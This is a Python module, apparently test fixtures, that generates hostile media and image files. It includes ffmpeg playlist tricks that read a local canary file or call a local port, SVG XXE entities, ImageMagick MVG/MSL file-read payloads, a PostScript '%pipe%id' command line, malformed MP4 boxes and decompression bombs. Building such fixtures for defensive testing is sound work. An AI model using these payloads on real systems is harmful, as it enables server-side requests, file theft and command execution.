"""Bytes of hostile files: text that programs take for a playlist, boxes that lie, pictures that explode."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image


def playlists(canary: str, port: int) -> dict[str, bytes]:
    """Texts that make a careless demuxer open ``canary``, a file outside, or connect to ``port`` of this machine."""
    url = f"http://127.0.0.1:{port}"
    hls = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXTINF:1.0,\n{}\n#EXT-X-ENDLIST\n"
    dash = (
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S">'
        f"<BaseURL>{url}/</BaseURL><Period><AdaptationSet mimeType='video/mp4'><Representation id='0' bandwidth='1'>"
        "<SegmentList><SegmentURL media='a.mp4'/></SegmentList></Representation></AdaptationSet></Period></MPD>"
    )
    texts = {
        "hls_file.mp4": hls.format(f"file://{canary}"),
        "hls_http.mp4": hls.format(f"{url}/segment.ts"),
        "hls_concat.mp4": hls.format(f"concat:{url}/header.y4m|file://{canary}"),  # CVE-2016-1898
        "hls_key.mp4": hls.format("segment.ts").replace(
            "#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF', 1
        ),
        "hls_nested.mp4": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhls_http.mp4\n",
        "dash.mp4": dash,
        "ffconcat.mp4": f"ffconcat version 1.0\nfile '{canary}'\n",
        "subtitles.mp4": "1\n00:00:00,000 --> 00:00:01,000\nnot a picture\n",
        "sdp.mp4": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video {port} RTP/AVP 96\n",
        "rtsp.mov": f"RTSPtext\nrtsp://127.0.0.1:{port}/x\n",
        "asx.avi": f"[Reference]\nRef1={url}/x.avi\n",
        "shortcut.webm": f"[InternetShortcut]\nURL={url}/x.webm\n",
        "script.mkv": "import \"x\"; LoadPlugin('y')\nAviSource('z')\n",
        "text.mp4": "no video at all, only text",
    }
    return {name: text.encode() for name, text in texts.items()}


def image_tricks(canary: str, port: int) -> dict[str, bytes]:
    """Pictures by their names that make a careless image library open files or connections."""
    url = f"http://127.0.0.1:{port}"
    return {
        "svg.jpg": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}/x.png'/></svg>".encode(),
        "svg_entity.png": f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{canary}'>]><svg><text>&x;</text></svg>".encode(),
        "mvg.jpg": f"push graphic-context\nviewbox 0 0 64 48\nfill 'url({url}/x.jpg)'\npop graphic-context".encode(),
        "msl.png": f"<image><read filename='{canary}'/><write filename='stolen.png'/></image>".encode(),
        "postscript.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\n(%pipe%id) (w) file\n",
        "text_reference.tif": f"text:{canary}".encode(),
    }


def box(kind: bytes, content: bytes) -> bytes:
    """A box of ISO/IEC 14496-12."""
    return struct.pack(">I4s", 8 + len(content), kind) + content


def nested_boxes(depth: int) -> bytes:
    """An mp4 whose boxes lie in each other, as deep as a parser that recurses can be made to go."""
    inner = b""
    for _ in range(depth):
        inner = box(b"trak", inner)
    return box(b"ftyp", b"isom\0\0\0\0isom") + box(b"moov", inner)


def endless_box() -> bytes:
    """A box with a 64-bit size far beyond the file's end."""
    return box(b"ftyp", b"isom\0\0\0\0isom") + struct.pack(">I4sQ", 1, b"mdat", (1 << 63) - 1) + bytes(64)


def swollen_table(mp4: bytes, table: bytes = b"stsz") -> bytes:
    """``mp4`` whose table of samples claims two thousand million entries."""
    at = mp4.index(table)
    return mp4[: at + 12] + struct.pack(">I", 0x7FFFFFFF) + mp4[at + 16 :]


def outside_reference(mp4: bytes, canary: str) -> bytes:
    """``mp4`` whose track says that its pictures lie in another file."""
    at = mp4.index(b"url \0\0\0\1")
    location = f"file://{canary}\0".encode()
    grown = bytearray(mp4[:at] + b"url \0\0\0\0" + location + mp4[at + 8 :])
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref", b"url "):
        start = grown.index(kind) - 4
        (size,) = struct.unpack(">I", grown[start : start + 4])
        grown[start : start + 4] = struct.pack(">I", size + len(location))
    return bytes(grown)


def without_index(mp4: bytes) -> bytes:
    """``mp4`` without its last box, the index, and nothing cut off: a recorder that lost power."""
    return mp4[: mp4.rindex(b"moov") - 4]


def many_tracks(mp4: bytes, count: int) -> bytes:
    """``mp4`` whose index, its last box, repeats the track."""
    moov = mp4.rindex(b"moov") - 4
    trak = mp4.index(b"trak", moov) - 4
    (size,) = struct.unpack(">I", mp4[trak : trak + 4])
    content = mp4[moov + 8 : trak + size] + mp4[trak : trak + size] * (count - 1)
    return mp4[:moov] + box(b"moov", content)


def swapped_times(mkv: bytes, first_ms: int, second_ms: int) -> bytes:
    """``mkv`` of key frames in which two frames have each other's time, so that times go back."""
    first, second = (b"\x81" + struct.pack(">h", time) + b"\x80" for time in (first_ms, second_ms))
    assert mkv.count(first) == mkv.count(second) == 1
    return mkv.replace(first, b"<hold>").replace(second, first).replace(b"<hold>", second)


def zipped(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("clip.mp4", content)
    return buffer.getvalue()


def picture_bomb(side: int) -> bytes:
    """A PNG of ``side`` x ``side`` pixels in black and white: thousands of times as large when it is decoded."""
    buffer = io.BytesIO()
    Image.new("1", (side, side)).save(buffer, "PNG")
    return buffer.getvalue()


def text_bomb(num_bytes: int) -> bytes:
    """A small PNG whose compressed comment has ``num_bytes`` when it is unpacked."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48)).save(buffer, "PNG")
    png = buffer.getvalue()
    content = b"Comment\0\0" + zlib.compress(bytes(num_bytes), 9)
    chunk = struct.pack(">I", len(content)) + b"zTXt" + content
    chunk += struct.pack(">I", zlib.crc32(b"zTXt" + content))
    header_end = 8 + 25  # signature, IHDR
    return png[:header_end] + chunk + png[header_end:]


def lying_header(png: bytes, width: int, height: int) -> bytes:
    """``png`` whose header claims another size."""
    header = struct.pack(">II", width, height) + png[24:29]
    return png[:16] + header + struct.pack(">I", zlib.crc32(b"IHDR" + header)) + png[33:]
